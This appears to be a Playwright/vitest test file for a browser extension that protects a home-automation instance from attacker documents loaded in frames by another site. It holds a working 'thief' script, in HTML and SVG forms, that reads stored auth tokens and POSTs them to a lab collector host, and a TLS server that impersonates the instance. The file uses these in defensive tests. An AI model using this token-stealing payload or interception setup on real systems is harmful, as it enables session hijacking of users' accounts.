// Another site shows a document of the instance in a frame. Firefox doesn't report that request to the extension, so an
// attacker on the path can answer it unnoticed. The attacker's document opens a window at the true address and reads
// its tokens.
import { createServer as createTls } from "node:https";
import type { Socket } from "node:net";
import type { IncomingMessage, ServerResponse } from "node:http";
import type { Frame, Page } from "playwright";
import { beforeAll, expect, it } from "vitest";
import { z } from "zod/mini";
import { reachesCollector } from "../lab/collector";
import { instancePage, SECRET } from "../lab/instance-pages";
import { COLLECTOR, type Instance, OWN_DOMAIN } from "../lab/lab";
import { until } from "../lab/until";
import { firefox, lab, useBrowser } from "./browser";
import { openInstance } from "./guarded";

/** The other site, at an address that the extension has no permission for. */
let site: Instance;

useBrowser();
beforeAll(async () => {
  site = await lab.instance(lab.authority, [OWN_DOMAIN]);
});

const RUNS = "the attacker's script runs";
const NOTHING = "no token could be read";
/** Opens the instance at the first click, and sends the attacker what it could read there. */
const THIEF = `
  const report = (what) => fetch('https://${COLLECTOR}/', { method: 'POST', mode: 'no-cors', keepalive: true, body: what });
  void report("${RUNS}");
  document.onclick = () => {
    const opened = open('/');
    const began = Date.now();
    const timer = setInterval(() => {
      let tokens;
      try { tokens = opened.localStorage.hassTokens; } catch { /* not at the address yet, or never */ }
      if (tokens === undefined && Date.now() - began < 3000) return;
      clearInterval(timer);
      void report(tokens ?? '${NOTHING}');
    }, 50);
  };`;
const ATTACKER_DOCUMENTS: Readonly<Record<string, readonly [type: string, body: string]>> = {
  html: ["text/html", `<!doctype html><body style="height: 100vh"><script>${THIEF}</script>`],
  svg: [
    "image/svg+xml",
    `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><rect width="400" height="400"/><script><![CDATA[${THIEF}]]></script></svg>`,
  ],
};

/** Answers one connection to the instance, the first after `arm`, with the attacker's document. */
async function frameThief(instance: Instance, document: keyof typeof ATTACKER_DOCUMENTS) {
  const { key, cert } = await lab.authority.issue({ names: [instance.host] });
  const [type = "", body = ""] = ATTACKER_DOCUMENTS[document] ?? [];
  let isArmed = false;
  let served = 0;
  const server = createTls({ key, cert }, (_, response) => {
    isArmed = false;
    served++;
    response.writeHead(200, { "Content-Type": type, Connection: "close" }).end(body);
  });
  instance.attacker = {
    onConnection: (socket: Socket, passOn) => {
      if (isArmed) server.emit("connection", socket);
      else passOn();
    },
  };
  return { arm: () => (isArmed = true), served: () => served };
}

const html = (body: string) => (request: IncomingMessage, response: ServerResponse) => {
  request.resume();
  response.writeHead(200, { "Content-Type": "text/html" }).end(`<!doctype html><title>Another site</title>${body}`);
};
const SIZE = 'width="400" height="400"';
const FRAMES = {
  iframe: (url: string) => `<iframe ${SIZE} src="${url}"></iframe>`,
  object: (url: string) => `<object ${SIZE} data="${url}" type="text/html"></object>`,
  embed: (url: string) => `<embed ${SIZE} src="${url}" type="text/html">`,
};

/** The document in the frame, the instance's or the attacker's. */
const framed = (page: Page): Frame | undefined => page.frames().find((frame) => frame !== page.mainFrame());
const isStopped = async (page: Page): Promise<boolean> =>
  String(
    await framed(page)
      ?.evaluate("document.documentElement.textContent")
      .catch(() => ""),
  ).includes("Latchkey");

const TREE = z.object({
  contexts: z.array(z.object({ url: z.string(), children: z.array(z.object({ context: z.string() })) })),
});
/** A click of the mouse in the frame. A site can put the frame under anything that the user wants to click. */
async function clickFrame(): Promise<void> {
  const { contexts } = TREE.parse(await firefox.bidi.send("browsingContext.getTree", {}));
  const context = contexts.find(({ url }) => url.includes(OWN_DOMAIN))?.children[0]?.context;
  const actions = [
    { type: "pointerMove", x: 100, y: 100 },
    { type: "pointerDown", button: 0 },
    { type: "pointerUp", button: 0 },
  ];
  await firefox.bidi.send("input.performActions", { context, actions: [{ type: "pointer", id: "mouse", actions }] });
}

/** The result: whether the attacker's document ran, and what it could read. */
async function outcome(page: Page, reportedSince: () => string): Promise<"stolen" | "nothing" | "stopped"> {
  const runs = await until(
    async () => ((await isStopped(page)) ? "stopped" : reportedSince().includes(RUNS) ? "runs" : undefined),
    (what) => what !== undefined,
  );
  await clickFrame();
  if (runs === "stopped") {
    await reachesCollector(firefox, lab);
    return reportedSince().includes(RUNS) ? "nothing" : "stopped";
  }
  await until(reportedSince, (reported) => reported.includes(SECRET) || reported.includes(NOTHING));
  return reportedSince().includes(SECRET) ? "stolen" : "nothing";
}

const ROWS: [frame: keyof typeof FRAMES, document: string, isGuarded: boolean, comes: string][] = [
  ["iframe", "html", false, "stolen"],
  ["iframe", "html", true, "stopped"],
  ["object", "html", true, "stopped"],
  ["embed", "html", true, "stopped"],
  ["iframe", "svg", true, "stopped"],
];
it.each(ROWS)(
  "in an %s of another site, as %s (guarded: %s), the result of the attacker's document: %s",
  async (frame, type, guarded, comes) => {
    const { instance, page } = await openInstance(lab, firefox, guarded);
    await page.close();
    const thief = await frameThief(instance, type);
    instance.dropConnections();
    site.respond = (request, response) => {
      thief.arm();
      html(FRAMES[frame](instance.url))(request, response);
    };
    const already = lab.collected.length;
    const there = await firefox.context.newPage();
    await there.goto(`https://${OWN_DOMAIN}/`);
    await until(thief.served, (served) => served > 0);
    expect(await outcome(there, () => lab.collected.slice(already).join(" "))).toBe(comes);
    for (const other of firefox.context.pages()) if (other.url().startsWith(instance.url)) await other.close();
    await there.close();
  },
);

it("stops the attacker's document in another site's page that the instance itself shows, and no frame of the instance's own", async () => {
  const { instance, page } = await openInstance(lab, firefox, true);
  const thief = await frameThief(instance, "html");
  instance.respond = (request, response) => {
    const path = request.url ?? "";
    if (path === "/panel") html(FRAMES.iframe(`https://${OWN_DOMAIN}/`))(request, response);
    else if (path === "/ingress") html(FRAMES.iframe("/cached"))(request, response);
    else instancePage(request, response);
  };
  site.respond = (request, response) => {
    thief.arm();
    instance.dropConnections();
    html(FRAMES.iframe(instance.url))(request, response);
  };
  await page.goto(`${instance.url}ingress`);
  await page.frameLocator("iframe").getByText("Instance").waitFor();

  const already = lab.collected.length;
  await page.goto(`${instance.url}panel`);
  await until(
    async () =>
      Promise.all(page.frames().map((frame) => frame.evaluate("document.documentElement.textContent").catch(() => ""))),
    (texts) => texts.some((text) => String(text).includes("Latchkey")),
  );
  expect(thief.served()).toBe(1);
  await reachesCollector(firefox, lab);
  expect(lab.collected.slice(already).join(" ")).not.toContain(RUNS);
  await page.close();
});
